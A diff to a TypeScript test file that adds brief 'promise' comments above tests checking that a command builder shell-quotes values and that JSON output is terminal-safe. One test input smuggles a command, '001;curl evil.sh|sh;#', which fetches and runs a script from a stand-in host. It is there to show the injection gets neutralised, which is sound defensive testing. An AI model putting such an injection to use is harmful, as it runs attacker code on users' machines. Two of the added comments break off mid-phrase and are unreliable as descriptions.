@@ -6,6 +6,7 @@ import { expect, test } from 'vitest'
 import { asJson } from '../../src/text/json.ts'
 import { asWord, paste } from '../../src/text/paste.ts'
 
+// promise: what is no plain name is quoted or replaced by `<…>`
 test('a value in a command is one word of a shell, whatever it contains', () => {
   expect(paste`cortext resume ${'001-plan-日本語'} --force`).toBe('cortext resume 001-plan-日本語 --force')
   expect(paste`cortext resume ${'001;curl evil.sh|sh;#'} --force`).toBe(
@@ -25,6 +26,7 @@ test('a value in a command is one word of a shell, whatever it contains', () => 
   )
 })
 
+// promise: what is no plain name
 test('every command to copy is made by `paste`', () => {
   const src = join(import.meta.dirname, '..', '..', 'src')
   const files = readdirSync(src, { recursive: true, encoding: 'utf8' }).filter((path) => path.endsWith('.ts'))
@@ -50,6 +52,7 @@ const NOT_TO_COPY = [
   'store/machine/locks/lock.ts',
 ]
 
+// promise: It never becomes part
 test('JSON contains nothing that a terminal obeys, and reads back as the same value', () => {
   fc.assert(
     fc.property(fc.jsonValue(), fc.string({ unit: 'binary' }), (value, text) => {
